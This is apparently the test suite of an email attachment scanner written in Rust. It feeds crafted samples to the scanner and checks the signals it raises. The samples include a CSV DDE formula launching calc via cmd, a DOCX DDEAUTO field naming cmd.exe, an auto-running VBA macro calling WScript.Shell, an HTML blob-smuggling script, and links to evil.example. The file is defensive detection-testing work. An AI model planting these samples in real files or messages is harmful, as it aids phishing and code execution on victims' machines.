//! Messages and what is said of what they carry.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::contents::made::{self, Boxes, boxed};
use crate::examine::{Beside, Examination, Examiner};
use crate::lists::Lists;
use crate::scorecard::Scorecard;
use crate::setting::Setting;

/// An office document has this member first.
fn office(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", b"<Types/>")];
    all.extend(files);
    boxed(&all)
}

fn examine(text: &str, name: &str, declared: &str, content: &[u8]) -> Examination {
    let raw = format!(
        "From: a@news.example\r\nTo: b@clinic.example\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n{text}\r\n--x\r\n\
         Content-Type: {declared}\r\nContent-Transfer-Encoding: base64\r\n\
         Content-Disposition: attachment; filename*=utf-8''{}\r\n\r\n{}\r\n--x--\r\n",
        name.bytes()
            .map(|byte| format!("%{byte:02X}"))
            .collect::<String>(),
        STANDARD.encode(content)
    );
    let setting =
        "indicators: {sha256: [ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad]}";
    let setting: Setting = yaml_serde::from_str(setting).expect("a setting");
    let examiner = Examiner::new(setting, Lists::default(), Scorecard::default());
    examiner
        .examine(raw.as_bytes(), &Beside::opened_by(&Boxes))
        .expect("a message")
}

fn check(name: &str, declared: &str, content: &[u8], expected: &[&str]) {
    let found = examine("see attached", name, declared, content);
    let mut ids: Vec<&str> = found
        .signals
        .iter()
        .map(|signal| signal.id.as_ref())
        .collect();
    ids.retain(|id| id.starts_with("payload."));
    let expected: Vec<String> = expected.iter().map(|id| format!("payload.{id}")).collect();
    assert_eq!(ids, expected, "{name}");
}

#[test]
fn files_are_what_their_content_is() {
    let any = "application/octet-stream";
    for (name, declared, content, expected) in [
        (
            "report.pdf",
            "application/pdf",
            b"%PDF-1.7\n".as_slice(),
            &[][..],
        ),
        ("setup.exe", any, b"MZ\x90", &["program"]),
        (
            "invoice.pdf",
            "application/pdf",
            b"MZ\x90",
            &["disguised", "program"],
        ),
        (
            "invoice.pdf.exe",
            any,
            b"MZ\x90",
            &["double_ending", "program"],
        ),
        (
            "fax",
            "audio/mpeg",
            b"<html><script>x()</script>",
            &["declared_harmless", "page_with_script"],
        ),
        ("run.hta", any, b"<html><script>x()</script>", &["script"]),
        ("run.vbs", any, b"CreateObject", &["script"]),
        ("a.lnk", any, b"\x4c\0\0\0\x01\x14\x02\0", &["shortcut"]),
        ("a.iso", any, b"\0\0", &["disk_image"]),
        ("page.html", "text/html", b"<html><p>hello", &["page"]),
        ("table.xls", any, b"<html><table>", &["page"]),
        (
            "a.svg",
            "image/svg+xml",
            b"<svg><script>x()</script></svg>",
            &["drawing_with_script"],
        ),
        ("a.svg", "image/svg+xml", b"<svg><path d='M0'/></svg>", &[]),
        (
            "a.rtf",
            any,
            b"{\\rtf1 {\\object\\objdata 0105}}",
            &["object"],
        ),
        (
            "a.csv",
            "text/csv",
            b"a,b\n1,=cmd|' /C calc'!A0\n",
            &["data_exchange"],
        ),
        ("a.csv", "text/csv", b"a,b\n1,-2\n", &[]),
        ("abc.txt", "text/plain", b"abc", &["known_bad"]),
        (
            "inner.eml",
            "message/rfc822",
            b"From: x@y.example\r\n\r\nhello",
            &["message_inside"],
        ),
        (
            "a.7z",
            any,
            b"7z\xbc\xaf\x27\x1c\x06\xf1\x07\x01",
            &["encrypted_archive"],
        ),
    ] {
        check(name, declared, content, expected);
    }
}

#[test]
fn pages_that_act_are_told() {
    let smuggling =
        b"<html><script>var u=URL.createObjectURL(new Blob([atob(x)]));location.href=u</script>";
    check(
        "a.html",
        "text/html",
        smuggling,
        &["page_with_script", "smuggles"],
    );
    let form = b"<html><form action='https://evil.example/p'><input type=password></form>";
    let found = examine("", "a.html", "text/html", form);
    for id in [
        "destination.attached_form",
        "destination.attached_password_form",
    ] {
        assert!(found.signals.has(id), "{id}");
    }
    let packed = STANDARD.encode("https://evil.example/x");
    let page = format!("<html><script>location.href=atob('{packed}')</script>");
    let found = examine("", "a.html", "text/html", page.as_bytes());
    assert!(found.signals.has("destination.attached_page_leaves"));
    assert_eq!(found.anatomy.links[0].host(), "evil.example");
}

#[test]
fn archives_are_opened() {
    let any = "application/zip";
    let zip = boxed(&[("a/invoice.pdf.js", b"x"), ("b.txt", b"y")]);
    check("a.zip", any, &zip, &["double_ending", "packed_program"]);
    check(
        "a.zip",
        any,
        &boxed(&[("page.html", b"<html>")]),
        &["packed_page"],
    );
    check(
        "a.zip",
        any,
        &boxed(&[("b.zip", &boxed(&[("c.txt", b"x")]))]),
        &["nested_archive"],
    );
    check("a.zip", any, &boxed(&[("abc", b"abc")]), &["known_bad"]);
    check("a.zip", any, &boxed(&[("c.txt", b"x")]), &[]);
    let mut deep = boxed(&[("c.exe", b"MZ")]);
    for _ in 0..6 {
        deep = boxed(&[("b.zip", &deep)]);
    }
    check("a.zip", any, &deep, &["nested_archive", "too_much_inside"]);
}

#[test]
fn a_password_beside_an_encrypted_archive_is_seen() {
    let zip = b"PK\x03\x04a.doc|e|00\n";
    for (text, is_told) in [
        ("Password: 1234", true),
        ("Das Passwort lautet abc", true),
        ("The archive password is 77", true),
        ("contrase\u{f1}a: 99", true),
        ("I send the password later", false),
        ("hello", false),
    ] {
        let found = examine(text, "a.zip", "application/zip", zip);
        assert!(found.signals.has("payload.encrypted_archive"), "{text}");
        assert_eq!(
            found.signals.has("payload.password_in_text"),
            is_told,
            "{text}"
        );
    }
}

#[test]
fn office_documents_are_opened() {
    let any = "application/octet-stream";
    let relation = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"r\" Type=\"http://schemas.example/relationships/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        )
    };
    let with = |kind: &str, target: &str| {
        office(&[(
            "word/_rels/document.xml.rels",
            relation(kind, target).as_bytes(),
        )])
    };
    check(
        "a.docx",
        any,
        &office(&[("word/document.xml", b"<w:t>x</w:t>")]),
        &[],
    );
    check(
        "a.docx",
        any,
        &with("attachedTemplate", "https://evil.example/t.dotm"),
        &["external_template"],
    );
    check(
        "a.docx",
        any,
        &with("attachedTemplate", "file:///C:/Users/x/Normal.dotm"),
        &[],
    );
    check(
        "a.docx",
        any,
        &with("oleObject", "https://evil.example/o.html!"),
        &["external_object"],
    );
    check(
        "a.docx",
        any,
        &with("image", "https://a.example/i.png"),
        &[],
    );
    let field =
        b"<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText>";
    check(
        "a.docx",
        any,
        &office(&[("word/document.xml", field)]),
        &["data_exchange"],
    );
    check(
        "a.xlsm",
        any,
        &office(&[("xl/macrosheets/sheet1.xml", b"x")]),
        &["old_macro_sheet"],
    );
    let quiet = made::macros(b"Attribute VB_Name = \"M\"\r\nSub Total()\r\nEnd Sub");
    check(
        "a.xlsm",
        any,
        &office(&[("xl/vbaProject.bin", &quiet)]),
        &["macro"],
    );
    let object = made::object("run.vbs", b"CreateObject");
    check(
        "a.docx",
        any,
        &office(&[("word/embeddings/oleObject1.bin", &object)]),
        &["object", "program_in_document"],
    );
    let link = with("hyperlink", "https://evil.example/x");
    let found = examine("", "a.docx", any, &link);
    assert!(found.signals.has("destination.link_only_attached"));
}

#[test]
fn compound_files_are_opened() {
    let any = "application/octet-stream";
    let code = b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"x\"\r\nEnd Sub";
    let acts = ["macro", "macro_reaches_out", "macro_runs_itself"];
    check("a.doc", any, &made::macros(code), &acts);
    check(
        "a.xls",
        any,
        &made::compound(&[("/Workbook", &made::workbook(0x85, &[0, 0, 0, 0, 0, 1]))]),
        &["old_macro_sheet"],
    );
    check(
        "a.xls",
        any,
        &made::compound(&[("/Workbook", &made::workbook(0x85, &[0, 0, 0, 0, 0, 0]))]),
        &[],
    );
    check(
        "a.xls",
        any,
        &made::compound(&[("/Workbook", &made::workbook(0x2f, &[0]))]),
        &["encrypted_document"],
    );
    check(
        "a.docx",
        any,
        &made::compound(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"x")]),
        &["encrypted_document"],
    );
    let wide = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let message = made::compound(&[
        (
            "/__attach_version1.0_#00000000/__substg1.0_37010102",
            b"MZ\x90",
        ),
        (
            "/__attach_version1.0_#00000000/__substg1.0_3707001F",
            &wide("a.exe"),
        ),
        ("/__substg1.0_1000001F", &wide("see https://evil.example/x")),
    ]);
    let found = examine("", "a.msg", any, &message);
    assert!(found.contents.files.iter().any(|file| file.name == "a.exe"));
    assert_eq!(found.anatomy.links[0].host(), "evil.example");
}

#[test]
fn notes_with_files_are_told() {
    let note = |content: &[u8]| {
        let mut bytes =
            b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
        bytes.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
        bytes.extend((content.len() as u64).to_le_bytes());
        bytes.extend([0; 12]);
        bytes.extend(content);
        bytes
    };
    let any = "application/onenote";
    check("a.one", any, &note(b"\x89PNG\r\n"), &["note"]);
    check(
        "a.one",
        any,
        &note(b"<script>x = new ActiveXObject('WScript.Shell')</script>"),
        &["note_with_file", "program_in_document"],
    );
    check(
        "a.one",
        any,
        &note(b"@echo off\r\npowershell x"),
        &["note_with_file", "program_in_document"],
    );
}

#[test]
fn documents_of_paged_text_are_read() {
    let any = "application/pdf";
    for (body, expected, link) in [
        (
            "1 0 obj <</S/URI/URI(https://evil.example/a\\(b\\)\\057c)>> endobj",
            &[][..],
            Some("https://evil.example/a(b)/c"),
        ),
        (
            "1 0 obj <</S/URI/URI<68747470733A2F2F6576696C2E6578616D706C652F>>> endobj",
            &[],
            Some("https://evil.example/"),
        ),
        (
            "1 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> endobj",
            &["pdf_script"],
            None,
        ),
        (
            "1 0 obj <</S/J#61vaScript/#4aS(x)>> endobj",
            &["pdf_script"],
            None,
        ),
        (
            "1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S/Launch/F(cmd.exe)>> endobj",
            &["pdf_acts", "pdf_launch"],
            None,
        ),
        ("1 0 obj <</OpenAction[3 0 R/FitH]>> endobj", &[], None),
        ("1 0 obj <</Type/EmbeddedFile>> endobj", &["pdf_file"], None),
        (
            "1 0 obj <</S/SubmitForm/F(https://x)>> endobj",
            &["pdf_sends"],
            None,
        ),
        ("trailer <</Encrypt 5 0 R>>", &["encrypted_pdf"], None),
        (
            "1 0 obj <</Type/ObjStm/Filter/FlateDecode>>\nstream\n<</S/URI/URI(https://evil.example/)>>\nendstream endobj",
            &[],
            Some("https://evil.example/"),
        ),
        (
            "1 0 obj <</Length 9>>\nstream\n/JS /Launch \nendstream endobj",
            &[],
            None,
        ),
        ("1 0 obj (broken /URI(", &[], None),
        (
            "1 0 obj <</Length 9>>\nstream\n/URI(https://evil.example/) never ends",
            &[],
            Some("https://evil.example/"),
        ),
    ] {
        let content = format!("%PDF-1.7\n{body}\n");
        check("a.pdf", any, content.as_bytes(), expected);
        let found = examine("", "a.pdf", any, content.as_bytes());
        let first = found.anatomy.links.first().map(|link| link.url.as_str());
        assert_eq!(first, link, "{body}");
    }
}

#[test]
fn codes_in_pictures_are_read() {
    let png = made::picture();
    let found = examine("scan this", "code.png", "image/png", &png);
    assert!(found.signals.has("destination.qr_code"));
    assert_eq!(found.anatomy.links[0].host(), "pay.example");
    let office = office(&[("word/media/image1.png", &png)]);
    assert!(
        examine("", "a.docx", "application/octet-stream", &office)
            .signals
            .has("destination.qr_code")
    );
    let page = format!(
        "<html><img src='data:image/png;base64,{}'>",
        STANDARD.encode(&png)
    );
    assert!(
        examine("", "a.html", "text/html", page.as_bytes())
            .signals
            .has("destination.qr_code")
    );
}

#[test]
fn codes_in_documents_are_read_however_they_are_drawn() {
    let is_seen = |pdf: &[u8]| {
        let found = examine("", "a.pdf", "application/pdf", pdf);
        found.signals.has("destination.qr_code")
    };
    for (bits, numbers) in [
        (1, 1),
        (2, 1),
        (4, 1),
        (8, 1),
        (16, 1),
        (8, 3),
        (4, 3),
        (8, 4),
    ] {
        for (is_indexed, has_predictor) in
            [(false, false), (false, true), (true, false), (true, true)]
        {
            let how = made::Pixels {
                bits,
                numbers,
                is_indexed: is_indexed && numbers == 1 && bits <= 8,
                has_predictor,
            };
            assert!(is_seen(&made::pdf(how)), "{how:?}");
        }
    }
    // Written by img2pdf, libtiff and OpenJPEG.
    for (name, pdf) in [
        (
            "fax, group 4",
            &include_bytes!("../../tests/data/group4.pdf")[..],
        ),
        (
            "fax, group 3",
            include_bytes!("../../tests/data/group3.pdf"),
        ),
        (
            "fax, 300 dpi",
            include_bytes!("../../tests/data/group4-large.pdf"),
        ),
        (
            "JPEG 2000, grey",
            include_bytes!("../../tests/data/jpeg2000-grey.pdf"),
        ),
        (
            "JPEG 2000, colours",
            include_bytes!("../../tests/data/jpeg2000-colours.pdf"),
        ),
    ] {
        assert!(is_seen(pdf), "{name}");
        // Cut off, and with a bit turned: nothing but less to see.
        for at in (0..pdf.len()).step_by(pdf.len() / 10) {
            is_seen(&pdf[..at]);
            let mut broken = pdf.to_vec();
            broken[at] ^= 0x24;
            is_seen(&broken);
        }
    }
    let square = |x: usize, y: usize| format!("{x} {} 1 1 re f ", 30 - y);
    let outline = |x: usize, y: usize| {
        let (u, v, w) = (x + 1, 30 - y, 31 - y);
        format!("{x} {v} m {u} {v} l {u} {w} l {x} {w} l h ")
    };
    assert!(is_seen(&made::drawn("", square)));
    assert!(is_seen(&made::drawn(
        "q 0.24 0 0 -0.24 72 700 cm q 3 0 0 3 0 0 cm",
        square
    )));
    let all_at_once = made::drawn("0 0 0 1 k", |x, y| {
        outline(x, y) + if (x, y) == (24, 24) { "f*" } else { "" }
    });
    assert!(is_seen(&all_at_once));
    let line = |x: usize, y: usize| format!("{x} {} m {} {} l ", 30 - y, x + 1, 30 - y);
    assert!(is_seen(&made::drawn("1 w", |x, y| line(x, y) + "S ")));
    assert!(is_seen(&made::drawn(
        "q 4 0 0 4 0 0 cm 0 0 0 RG",
        |x, y| line(x, y) + if (x, y) == (24, 24) { "S" } else { "" }
    )));
    let by_state = "0.57 w /GS1 gs 0 G";
    assert!(is_seen(&made::drawn(by_state, |x, y| line(x, y) + "S ")));
    let hidden = [
        made::drawn("1 g", square),
        made::drawn("1 G 1 w", |x, y| line(x, y) + "S "),
        made::drawn("", |x, y| outline(x, y) + "n "),
    ];
    for pdf in hidden {
        assert!(!is_seen(&pdf));
    }
}

#[test]
fn invitations_and_shortcuts_lead_somewhere() {
    let invitation = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join\\nhttps://evil.exa\r\n mple/x\\, now\r\n\
        X-ALT-DESC;FMTTYPE=text/html:<a href='https://two.example/'>x</a>\r\nEND:VEVENT\r\n";
    let found = examine("", "a.ics", "text/calendar", invitation);
    let hosts: Vec<&str> = found.anatomy.links.iter().map(|link| link.host()).collect();
    assert_eq!(hosts, ["evil.example", "two.example"]);
    let found = examine(
        "",
        "a.url",
        "application/octet-stream",
        b"[InternetShortcut]\r\nURL=https://evil.example/\r\n",
    );
    assert!(found.signals.has("payload.shortcut"));
    assert_eq!(found.anatomy.links[0].host(), "evil.example");
}
